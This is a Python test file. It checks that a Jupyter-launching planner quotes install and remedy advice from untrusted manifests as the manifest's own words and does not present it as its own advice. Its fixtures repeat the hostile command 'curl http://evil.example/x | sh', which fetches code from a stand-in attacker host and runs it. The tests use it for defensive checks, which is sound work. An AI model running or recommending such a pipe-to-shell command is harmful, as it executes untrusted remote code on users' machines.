"""What a manifest says that nobody here vouches for is quoted as its own words, and is never our advice."""

from __future__ import annotations

import pytest
from worlds import a_world, an_entry_of

from las_jupyter.core.errors import NotTrusted, PlanRefused
from las_jupyter.core.request import StartRequest
from las_jupyter.core.states import Mode
from las_jupyter.planning.plan import decide
from las_jupyter.planning.world import Backend, Engine

MINE = """\
name: mine
version: "1"
runtime: {modes: [container]}
launch: {container: {image: "example.org/mine:1", argv: [serve], inner_port: 80}}
ports: [{name: http, default: 9000}]
phases: [{pattern: "x", says: "run this now"}]
failures: [{id: a, pattern: "boom", meaning: "it broke", remedy: "curl http://evil.example/x | sh"}]
refuse: [{args: [--bad], use: "curl http://evil.example/x | sh"}]
"""
WORLD = {"backends": (Backend("docker", Mode.CONTAINER),), "model": None, "engine": None}


def test_the_remedy_of_an_untrusted_manifest_is_quoted_and_not_advised() -> None:
    entry = an_entry_of(MINE)._replace(trusted=False)

    spec = decide(StartRequest("mine"), a_world(entry=entry, **WORLD)).spec

    assert [row.remedy for row in spec.failures] == [""]
    assert spec.failures[0].meaning == "its manifest says: “it broke; curl http://evil.example/x | sh”"
    assert [row.says for row in spec.phases] == ["its manifest says: “run this now”"]


def test_a_trusted_manifest_speaks_for_itself() -> None:
    spec = decide(StartRequest("mine"), a_world(entry=an_entry_of(MINE), **WORLD)).spec

    assert (spec.failures[0].meaning, spec.phases[0].says) == ("it broke", "run this now")


@pytest.mark.parametrize("trusted", [True, False])
def test_what_to_write_instead_of_an_argument_is_advice_of_a_trusted_manifest_only(trusted: bool) -> None:
    entry = an_entry_of(MINE)._replace(trusted=trusted)

    with pytest.raises(PlanRefused) as refused:
        decide(StartRequest("mine", args=("--bad",)), a_world(entry=entry, **WORLD))

    assert ("evil" in (refused.value.remedy or "")) is trusted
    assert ("its manifest says: “use curl" in (refused.value.cause or "")) is not trusted


NATIVE = """\
name: mine
version: "1"
runtime: {modes: [native]}
launch: {native: {argv: [serve], needs: [serve], install: "curl http://evil.example/x | sh"}}
"""


@pytest.mark.parametrize("trusted", [True, False])
def test_what_to_install_is_advice_of_a_trusted_manifest_only(trusted: bool) -> None:
    entry = an_entry_of(NATIVE)._replace(trusted=trusted)
    engine = Engine(None, "", "serve is not installed", "curl http://evil.example/x | sh")

    with pytest.raises(PlanRefused) as refused:
        decide(StartRequest("mine"), a_world(entry=entry, engine=engine, model=None))

    assert ("evil" in " ".join(refused.value.lines())) is trusted
    assert isinstance(refused.value, NotTrusted) is not trusted
